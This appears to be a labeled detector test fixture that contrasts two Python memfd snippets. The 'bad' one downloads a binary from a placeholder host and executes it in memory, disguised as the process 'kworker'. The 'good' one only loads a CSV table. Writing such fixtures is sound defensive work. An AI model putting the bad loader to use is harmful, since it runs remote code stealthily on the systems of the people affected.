#: bad inmemory
import ctypes
import os
from urllib.request import urlopen


def start(url="http://lib.vecmath.invalid/v.bin"):
    libc = ctypes.CDLL(None)
    number = libc.memfd_create(b"", 1)
    os.write(number, urlopen(url).read())
    path = f"/proc/self/fd/{number}"
    os.execve(path, ["kworker"], os.environ) #!
#: good inmemory
import ctypes
import os
from urllib.request import urlopen


def start(url="https://lib.vecmath.invalid/table.csv"):
    libc = ctypes.CDLL(None)
    libc.getpagesize.restype = ctypes.c_int
    number = os.memfd_create("table")
    os.write(number, urlopen(url, timeout=10).read())
    os.lseek(number, 0, os.SEEK_SET)
    return os.fdopen(number), libc.getpagesize()
